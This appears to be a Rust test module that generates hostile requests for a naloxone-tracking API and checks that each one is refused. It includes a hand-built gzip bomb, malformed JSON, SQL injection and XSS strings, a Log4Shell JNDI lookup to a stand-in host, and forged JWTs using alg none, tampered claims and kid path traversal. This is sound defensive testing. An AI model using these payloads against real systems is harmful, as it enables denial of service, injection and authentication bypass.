//! The corpus: hostile bodies, field values and tokens.

use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine as _;
use naloxone_tracker::domain::auth::tokens::TokenService;
use naloxone_tracker::model::roles::Role;
use serde_json::{json, Value};

use super::routes::{Field, Kind, Route, Seg};
use super::world::World;
use super::{BODY_LIMIT, JSON};

/// Stands in a body for a raw JSON fragment that `serde_json::Value` cannot hold (`1e400`, `-0`, …).
const PLACEHOLDER: &str = "\"\\u0001hostile\\u0001\"";

/// One hostile request: a raw body, its content type and headers, and the token it carries.
pub(super) struct Case {
    pub(super) name: String,
    pub(super) body: Vec<u8>,
    pub(super) content_type: Option<String>,
    pub(super) headers: Vec<(&'static str, String)>,
    pub(super) auth: Auth,
    /// The exact status the refusal must have, when one is right (413, 415, 401);
    /// otherwise any 4xx.
    pub(super) expect: Option<u16>,
}

#[derive(Clone)]
pub(super) enum Auth {
    /// The route's writer, signed in properly.
    Writer,
    /// This `Authorization` header, or none.
    Header(Option<String>),
}

impl Case {
    pub(super) fn new(name: impl Into<String>, body: impl Into<Vec<u8>>) -> Self {
        Case {
            name: name.into(),
            body: body.into(),
            content_type: Some(JSON.to_owned()),
            headers: Vec::new(),
            auth: Auth::Writer,
            expect: None,
        }
    }

    fn content_type(mut self, content_type: Option<&str>) -> Self {
        self.content_type = content_type.map(str::to_owned);
        self
    }

    fn header(mut self, name: &'static str, value: impl Into<String>) -> Self {
        self.headers.push((name, value.into()));
        self
    }

    fn expect(mut self, status: u16) -> Self {
        self.expect = Some(status);
        self
    }

    pub(super) fn expect_some(mut self, status: Option<u16>) -> Self {
        self.expect = status;
        self
    }

    pub(super) fn auth(mut self, header: Option<String>) -> Self {
        self.auth = Auth::Header(header);
        self
    }
}

/// A valid JSON body padded with white space to one byte over the limit:
/// only the limit stands between it and the database.
pub(super) fn oversized(base: &[u8]) -> Vec<u8> {
    let mut body = base.to_vec();
    body.resize(BODY_LIMIT + 1, b' ');
    body
}

/// A gzip stream of `size` spaces, a few hundred kilobytes long: a fixed
/// Huffman block of one literal and repeated copies (length 258, distance 1).
/// The limit must apply to what it inflates to, not to its own size.
fn gzip_bomb(size: usize) -> Vec<u8> {
    struct Bits {
        out: Vec<u8>,
        acc: u8,
        used: u32,
    }
    impl Bits {
        fn bit(&mut self, bit: u32) {
            self.acc |= ((bit & 1) as u8) << self.used;
            self.used += 1;
            if self.used == 8 {
                self.out.push(self.acc);
                (self.acc, self.used) = (0, 0);
            }
        }
        /// Header fields go least significant bit first…
        fn value(&mut self, value: u32, bits: u32) {
            (0..bits).for_each(|i| self.bit(value >> i));
        }
        /// …Huffman codes most significant bit first.
        fn code(&mut self, code: u32, bits: u32) {
            (0..bits).rev().for_each(|i| self.bit(code >> i));
        }
    }
    let mut bits = Bits { out: Vec::new(), acc: 0, used: 0 };
    bits.value(1, 1); // the final block
    bits.value(1, 2); // fixed Huffman codes
    bits.code(0x30 + u32::from(b' '), 8);
    for _ in 0..(size - 1) / 258 {
        bits.code(0b1100_0101, 8); // length 258 (code 285)
        bits.code(0, 5); // distance 1
    }
    bits.code(0, 7); // end of block
    if bits.used > 0 {
        bits.out.push(bits.acc);
    }
    let mut gzip = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    gzip.extend(bits.out);
    gzip.extend(0u32.to_le_bytes()); // CRC-32: never reached, the limit comes first
    gzip.extend((size as u32).to_le_bytes());
    gzip
}

fn bomb() -> &'static [u8] {
    static BOMB: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
    BOMB.get_or_init(|| gzip_bomb(64 << 20))
}

/// Hostile bodies that need nothing of the route but a valid body to start from.
pub(super) fn whole_body_cases(base: &Value, has_required_fields: bool) -> Vec<Case> {
    let valid = serde_json::to_vec(base).expect("base body");
    let text = String::from_utf8(valid.clone()).expect("UTF-8");
    let first_key = base.as_object().and_then(|o| o.keys().next().cloned());
    let mut cases = vec![
        Case::new("body one byte over the 1 MiB limit", oversized(&valid)).expect(413),
        Case::new("gzip bomb: 64 MiB of spaces in 420 kB", bomb().to_vec())
            .header("content-encoding", "gzip")
            .expect(413),
        Case::new("content-encoding gzip on a plain body", valid.clone()).header("content-encoding", "gzip"),
        Case::new("empty body", Vec::new()),
        Case::new("null", "null"),
        Case::new("true", "true"),
        Case::new("a number", "42"),
        Case::new("a string", "\"text\""),
        Case::new("an empty array instead of an object", "[]"),
        Case::new("the body wrapped in an array", format!("[{text}]")),
        Case::new("100k nested arrays", "[".repeat(100_000)),
        Case::new("100k nested objects", "{\"a\":".repeat(100_000)),
        Case::new("1000 balanced nested arrays", format!("{}{}", "[".repeat(1000), "]".repeat(1000))),
        Case::new("300k-element array", format!("[{}0]", "0,".repeat(300_000))),
        Case::new("60k unknown keys", {
            let keys: Vec<String> = (0..60_000).map(|i| format!("\"k{i}\":0")).collect();
            format!("{{{}}}", keys.join(","))
        }),
        Case::new("a 900 kB string", format!("\"{}\"", "x".repeat(900_000))),
        Case::new("1e400 as the body", "1e400"),
        Case::new("invalid UTF-8 (FF FE) in a string", {
            let mut body = br#"{"name": "abc"#.to_vec();
            body.extend([0xff, 0xfe]);
            body.extend(br#""}"#);
            body
        }),
        Case::new("invalid UTF-8 before the body", [&[0xc3, 0x28][..], &valid].concat()),
        Case::new("overlong UTF-8 for '/' (C0 AF)", [&b"{\"a\":\"\xc0\xaf\"}"[..]].concat()),
        Case::new("UTF-16 surrogate encoded in UTF-8 (ED A0 80)", &b"{\"a\":\"\xed\xa0\x80\"}"[..]),
        Case::new("the body in UTF-16LE with a BOM", {
            let mut body = vec![0xff, 0xfe];
            body.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
            body
        }),
        Case::new("UTF-8 BOM before a valid body", [&[0xef, 0xbb, 0xbf][..], &valid].concat()),
        Case::new("raw NUL byte inside a string", text.replacen("\":", "\u{0}\":", 1)),
        Case::new("raw NUL byte between tokens", text.replacen('{', "{\u{0}", 1)),
        Case::new("1000 NUL bytes", vec![0u8; 1000]),
        // Regression (hostile-1): both were once stored; `extract::decode_json`
        // did not check that the body ends after the JSON value.
        Case::new("trailing garbage", format!("{text}xyz")),
        Case::new("two bodies in a row", format!("{text}{text}")),
        Case::new("truncated body", text[..text.len() / 2].to_owned()),
        Case::new("a comment before the body", format!("/* hi */{text}")),
        Case::new("single-quoted JSON", text.replace('"', "'")),
        Case::new("NaN and Infinity literals", "{\"a\": NaN, \"b\": Infinity}"),
        Case::new("an unknown field", add_member(&text, "\"is_admin\":true")),
        Case::new("__proto__ pollution", add_member(&text, "\"__proto__\":{\"admin\":true}")),
        Case::new("wrong content type: text/plain", valid.clone()).content_type(Some("text/plain")).expect(415),
        Case::new("wrong content type: form", "name=x&quantity=1")
            .content_type(Some("application/x-www-form-urlencoded"))
            .expect(415),
        Case::new("wrong content type: multipart", valid.clone())
            .content_type(Some("multipart/form-data; boundary=x"))
            .expect(415),
        Case::new("wrong content type: application/xml", "<a>1</a>").content_type(Some("application/xml")).expect(415),
        Case::new("wrong content type: application/jsonp", valid.clone())
            .content_type(Some("application/jsonp"))
            .expect(415),
        Case::new("garbage content type", valid.clone()).content_type(Some(";;;=/")).expect(415),
        Case::new("no content type", valid.clone()).content_type(None).expect(415),
    ];
    if let Some(key) = first_key {
        let value = serde_json::to_string(&base[&key]).expect("value");
        cases.push(Case::new(format!("duplicate key {key:?}"), add_member(&text, &format!("{key:?}:{value}"))));
        cases.push(Case::new(
            format!("10k-deep nesting in {key:?}"),
            text.replacen(&format!("{key:?}:"), &format!("{key:?}:{}", "[".repeat(10_000)), 1),
        ));
    }
    if has_required_fields {
        // Bodies without required fields could be harmless no-ops (an empty PATCH).
        cases.push(Case::new("an empty object", "{}"));
        let nulls: serde_json::Map<String, Value> =
            base.as_object().into_iter().flatten().map(|(k, _)| (k.clone(), Value::Null)).collect();
        cases.push(Case::new("every field null", serde_json::to_vec(&nulls).expect("nulls")));
    }
    cases
}

/// `{…}` with one more member before its closing brace.
fn add_member(object: &str, member: &str) -> String {
    let inner = object.trim_end().strip_suffix('}').expect("an object");
    if inner.trim_end().ends_with('{') {
        format!("{inner}{member}}}")
    } else {
        format!("{inner},{member}}}")
    }
}

/// A field set to a raw JSON fragment. In or at a top-level list (a sync
/// batch), the other lists are emptied, so that nothing valid beside the
/// hostile value is stored.
pub(super) fn with_field(base: &Value, path: &[Seg], raw: &str) -> Vec<u8> {
    let mut body = base.clone();
    if let Some(Seg::Key(list)) = path.first().filter(|_| base[path_key(path)][0].is_object()) {
        if let Some(object) = body.as_object_mut() {
            for (key, value) in object.iter_mut() {
                if key != list && value.is_array() {
                    *value = json!([]);
                }
            }
        }
    }
    let mut slot = &mut body;
    for seg in path {
        slot = match seg {
            Seg::Key(key) => {
                if !slot.is_object() {
                    *slot = json!({});
                }
                slot.as_object_mut().expect("object").entry(key.clone()).or_insert(Value::Null)
            }
            Seg::Index(i) => &mut slot[*i],
        };
    }
    *slot = serde_json::from_str(PLACEHOLDER).expect("placeholder");
    serde_json::to_string(&body).expect("body").replacen(PLACEHOLDER, raw, 1).into_bytes()
}

fn path_key(path: &[Seg]) -> &str {
    match path.first() {
        Some(Seg::Key(key)) => key,
        _ => "",
    }
}

const INJECTIONS: [&str; 4] =
    ["'; DROP TABLE users;--", "<script>alert(1)</script>", "1 OR 1=1", "${jndi:ldap://example.org/a}"];

/// Values a field of this kind must refuse: wrong types, numbers no integer
/// type holds, unknown enum values, injection strings where only an id, a
/// date or an enum value can go. `own_id` is the id in the route's path.
fn refused_values(field: &Field, own_id: Option<&str>) -> Vec<(String, String)> {
    let quoted = |s: &str| serde_json::to_string(s).expect("string");
    let mut values: Vec<(String, String)> = Vec::new();
    let mut add = |name: &str, raw: String| values.push((name.to_owned(), raw));
    let injections = |add: &mut dyn FnMut(&str, String)| {
        for injection in INJECTIONS {
            add(&format!("injection {injection:?}"), quoted(injection));
        }
    };
    match &field.kind {
        Kind::Text { .. } => {
            add("a number for a string", "12345".into());
            add("true for a string", "true".into());
            add("an object for a string", "{}".into());
            add("an array for a string", "[\"x\"]".into());
            add("an empty string", "\"\"".into());
            add("a lone surrogate escape", "\"\\ud800\"".into());
            add("100k characters", quoted(&"x".repeat(100_000)));
        }
        Kind::Uuid => {
            add("a number for an id", "12345".into());
            add("an object for an id", "{}".into());
            add("an array for an id", "[]".into());
            add("not a uuid", quoted("not-a-uuid"));
            add("an empty id", "\"\"".into());
            add("a uuid with a NUL", quoted("\u{0}0000000-0000-0000-0000-000000000000"));
            add("a uuid with a bad digit", quoted("00000000-0000-0000-0000-00000000000g"));
            injections(&mut add);
            if field.last_key() != "id" {
                add("a record that does not exist", quoted(&uuid::Uuid::new_v4().to_string()));
                if let Some(own) = own_id {
                    add("the record's own id", quoted(own));
                }
            }
        }
        Kind::DateTime => {
            add("a number for a time", "1700000000".into());
            add("an object for a time", "{}".into());
            add("not a time", quoted("last night"));
            add("30 February", quoted("2026-02-30T10:00:00Z"));
            add("hour 25", quoted("2026-11-23T25:61:00Z"));
            add("no time zone", quoted("2026-11-23T10:15:00"));
            add("far future", quoted("9999-12-31T23:59:59Z"));
            add("year +275760", quoted("+275760-09-13T00:00:00Z"));
            add("year -1", quoted("-0001-01-01T00:00:00Z"));
            add("1970", quoted("1970-01-01T00:00:00Z"));
            add("an empty time", "\"\"".into());
            injections(&mut add);
        }
        Kind::Date => {
            add("a number for a date", "20261123".into());
            add("not a date", quoted("tomorrow"));
            add("30 February", quoted("2026-02-30"));
            add("month 13", quoted("2026-13-01"));
            add("a date with a time", quoted("2026-11-23T10:00:00Z"));
            // Regression (hostile-2): `NewBatch.expires_on` once took all three
            // (PostgreSQL: 500 for year -262143).
            add("year +262142", quoted("+262142-12-31"));
            add("year -262143", quoted("-262143-01-01"));
            add("year 0", quoted("0000-01-01"));
            add("an empty date", "\"\"".into());
            injections(&mut add);
        }
        Kind::Integer => {
            add("a string for a number", quoted("1"));
            add("a fraction", "1.5".into());
            // `1e2` and `5.0` are integers to JSON Schema and are read as such
            // (tests/api/kit_issues.rs); a fraction is not.
            add("true for a number", "true".into());
            add("an object for a number", "{}".into());
            add("an array for a number", "[1]".into());
            add("1e400", "1e400".into());
            add("-1e400", "-1e400".into());
            add("2^64", "18446744073709551616".into());
            add("-2^63-1", "-9223372036854775809".into());
            add("10^30", "1000000000000000000000000000000".into());
            add("2^31", "2147483648".into());
            add("-2^31-1", "-2147483649".into());
            add("-1", "-1".into());
            add("-0", "-0".into());
            add("NaN", "NaN".into());
        }
        Kind::Number => {
            add("a string for a number", quoted("1.8"));
            add("true for a number", "true".into());
            add("an object for a number", "{}".into());
            add("1e400", "1e400".into());
            add("-1e400", "-1e400".into());
            add("1e-400 (rounds to 0)", "1e-400".into());
            add("-0", "-0".into());
            add("-0.0", "-0.0".into());
            add("2^64", "18446744073709551616".into());
            add("10^30", "1000000000000000000000000000000".into());
            add("-1", "-1".into());
            add("NaN", "NaN".into());
            add("Infinity", "Infinity".into());
        }
        Kind::Boolean => {
            add("a string for a boolean", quoted("true"));
            add("1 for a boolean", "1".into());
            add("0 for a boolean", "0".into());
            add("an object for a boolean", "{}".into());
            add("an array for a boolean", "[true]".into());
        }
        Kind::Enum(known) => {
            let first = known.first().cloned().unwrap_or_default();
            add("a number for an enum", "1".into());
            add("true for an enum", "true".into());
            add("an object for an enum", "{}".into());
            add("an array for an enum", format!("[{}]", quoted(&first)));
            add("an unknown value", quoted("not_a_value"));
            add("an empty value", "\"\"".into());
            add("a known value in capitals", quoted(&first.to_uppercase()));
            add("a known value and a space", quoted(&format!("{first} ")));
            add("a known value and a NUL", quoted(&format!("{first}\u{0}")));
            injections(&mut add);
        }
        Kind::Array(item) => {
            add("an object for an array", "{}".into());
            add("a string for an array", quoted("x"));
            add("a number for an array", "1".into());
            add("an array of null", "[null]".into());
            add("an array of objects", "[{}]".into());
            add("an array holding 1e400", "[1e400]".into());
            match item.as_ref() {
                Kind::Uuid => {
                    add("an array holding a non-uuid", format!("[{}]", quoted("not-a-uuid")));
                    add("an array holding an injection", format!("[{}]", quoted(INJECTIONS[0])));
                    add(
                        "an array holding a record that does not exist",
                        format!("[{}]", quoted(&uuid::Uuid::new_v4().to_string())),
                    );
                    let nil = quoted(&uuid::Uuid::nil().to_string());
                    add("10,001 ids", format!("[{}]", vec![nil; 10_001].join(",")));
                }
                Kind::Enum(_) => {
                    add("an array holding an unknown value", format!("[{}]", quoted("superuser")));
                    add("an array holding an injection", format!("[{}]", quoted(INJECTIONS[0])));
                    add("an empty array", "[]".into());
                }
                _ => {}
            }
        }
        Kind::Object(_) => {
            add("an array for an object", "[]".into());
            add("a string for an object", quoted("x"));
            add("a number for an object", "1".into());
            add("an empty object", "{}".into());
        }
        Kind::Any => {
            add("an operator object", "{\"$ne\": null}".into());
        }
    }
    values
}

/// Field-level cases: each field of the route's body set to each value it
/// must refuse, each in a body of its own (new ids), so that one case
/// wrongly accepted does not turn the next into a duplicate.
pub(super) fn field_cases(world: &World, route: &Route, own_id: Option<&str>) -> Vec<Case> {
    let schema = route.schema.as_deref().unwrap_or("");
    let mut cases = Vec::new();
    for field in world.fields(route, &world.base(schema)) {
        for (name, raw) in refused_values(&field, own_id) {
            let body = with_field(&world.base(schema), &field.path, &raw);
            cases.push(Case::new(format!("{}: {name}", field.name()), body));
        }
    }
    cases
}

/// The session an access token names (its `sid`), unchecked.
pub(super) fn session_of(token: &str) -> String {
    let payload = token.split('.').nth(1).expect("a JWT");
    let claims: Value = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(payload).expect("base64url")).expect("claims");
    claims["sid"].as_str().expect("a session id").to_owned()
}

/// Tokens that must not get anyone in. Those signed with the server's
/// secret name the admin's live session (or the commissioner's, for the
/// commissioner's subject), so that only the flaw each one carries can be
/// what refuses it.
pub(super) fn token_attacks(world: &World, app_secret: &[u8]) -> Vec<(String, Option<String>, Option<u16>)> {
    use jsonwebtoken::{encode, Algorithm, EncodingKey, Header};
    let admin_roles = [Role::Admin];
    let bearer = |token: String| Some(format!("Bearer {token}"));
    let signed = |header: Header, claims: &Value, key: &[u8]| {
        encode(&header, claims, &EncodingKey::from_secret(key)).expect("token signed")
    };
    let unix = chrono::Utc::now().timestamp();
    let admin_session = session_of(&world.admin);
    let claims_in = |sub: &str, sid: &str| json!({"sub": sub, "sid": sid, "iat": unix, "exp": unix + 900, "jti": "hostile", "iss": "naloxone-tracker", "roles": ["admin"]});
    let claims = |sub: &str| claims_in(sub, &admin_session);
    let unsigned = |header: &str, claims: &Value| {
        format!("{}.{}.", URL_SAFE_NO_PAD.encode(header), URL_SAFE_NO_PAD.encode(claims.to_string()))
    };
    let admin = naloxone_tracker::model::ids::UserId::parse(&world.admin_id).expect("the admin's id");
    let genuine = TokenService::new(app_secret, 900).issue_access(&admin, &admin_roles, &admin_session).expect("token");
    let genuine_parts: Vec<&str> = genuine.split('.').collect();
    let mut tampered_claims = claims(&world.admin_id);
    tampered_claims["jti"] = json!("tampered");
    let tampered =
        format!("{}.{}.{}", genuine_parts[0], URL_SAFE_NO_PAD.encode(tampered_claims.to_string()), genuine_parts[2]);
    let mut wrong_issuer = claims(&world.admin_id);
    wrong_issuer["iss"] = json!("someone-else");
    let mut no_expiry = claims(&world.admin_id);
    no_expiry.as_object_mut().expect("claims").remove("exp");
    let mut kid_header = Header::new(Algorithm::HS256);
    kid_header.kid = Some("../../../../dev/null".into());
    vec![
        ("no Authorization header".into(), None, Some(401)),
        ("an empty bearer token".into(), Some("Bearer ".into()), Some(401)),
        ("a garbage bearer token".into(), bearer("garbage".into()), Some(401)),
        ("three empty segments".into(), bearer("..".into()), Some(401)),
        ("Basic credentials".into(), Some("Basic YWRtaW46YWRtaW4=".into()), Some(401)),
        ("a 16 KiB garbage token".into(), bearer("A".repeat(16 << 10)), Some(401)),
        (
            "expired an hour ago".into(),
            bearer(
                TokenService::new(app_secret, -3600).issue_access(&admin, &admin_roles, &admin_session).expect("token"),
            ),
            Some(401),
        ),
        (
            "signed with another secret".into(),
            bearer(
                TokenService::new(&[0x42; 64], 900).issue_access(&admin, &admin_roles, &admin_session).expect("token"),
            ),
            Some(401),
        ),
        (
            "alg none, no signature".into(),
            bearer(unsigned(r#"{"alg":"none","typ":"JWT"}"#, &claims(&world.admin_id))),
            Some(401),
        ),
        (
            "alg none with a genuine signature".into(),
            bearer(format!(
                "{}{}",
                unsigned(r#"{"alg":"none","typ":"JWT"}"#, &claims(&world.admin_id)),
                genuine_parts[2]
            )),
            Some(401),
        ),
        ("alg NONE, no signature".into(), bearer(unsigned(r#"{"alg":"NONE"}"#, &claims(&world.admin_id))), Some(401)),
        (
            "HS512 with the server's secret".into(),
            bearer(signed(Header::new(Algorithm::HS512), &claims(&world.admin_id), app_secret)),
            Some(401),
        ),
        ("claims changed under a genuine signature".into(), bearer(tampered), Some(401)),
        ("wrong issuer".into(), bearer(signed(Header::new(Algorithm::HS256), &wrong_issuer, app_secret)), Some(401)),
        ("no expiry".into(), bearer(signed(Header::new(Algorithm::HS256), &no_expiry, app_secret)), Some(401)),
        (
            "a kid pointing at /dev/null, signed with another secret".into(),
            bearer(signed(kid_header, &claims(&world.admin_id), &[0u8; 32])),
            Some(401),
        ),
        (
            "well signed, for a user that does not exist".into(),
            bearer(signed(Header::new(Algorithm::HS256), &claims(&uuid::Uuid::new_v4().to_string()), app_secret)),
            Some(401),
        ),
        (
            "well signed, subject an SQL injection".into(),
            bearer(signed(Header::new(Algorithm::HS256), &claims("' OR '1'='1"), app_secret)),
            Some(401),
        ),
        // Regression (hostile-3): PostgreSQL once answered 500 (it refuses NUL in text).
        (
            "well signed, subject with a NUL".into(),
            bearer(signed(Header::new(Algorithm::HS256), &claims("\u{0}"), app_secret)),
            Some(401),
        ),
        (
            "a commissioner's token claiming the admin role".into(),
            bearer(signed(
                Header::new(Algorithm::HS256),
                &claims_in(&world.commissioner_id, &world.commissioner_session),
                app_secret,
            )),
            // 403, 404 (a record they may not see) or, for a batch, every item refused.
            None,
        ),
        (
            "well signed, the admin in a session that does not exist".into(),
            bearer(signed(Header::new(Algorithm::HS256), &claims_in(&world.admin_id, "no-such-session"), app_secret)),
            Some(401),
        ),
        (
            "well signed, not valid for another hour (nbf)".into(),
            bearer(signed(
                Header::new(Algorithm::HS256),
                &{
                    let mut early = claims(&world.admin_id);
                    early["nbf"] = json!(unix + 3600);
                    early
                },
                app_secret,
            )),
            Some(401),
        ),
        ("a deactivated user's token".into(), bearer(world.deactivated_token.clone()), Some(401)),
        ("a genuine token with junk after it".into(), bearer(format!("{}.junk", world.fieldworker)), Some(401)),
    ]
    .into_iter()
    .filter(|(_, header, _)| header.as_ref().is_none_or(|h| reqwest::header::HeaderValue::from_str(h).is_ok()))
    .collect()
}
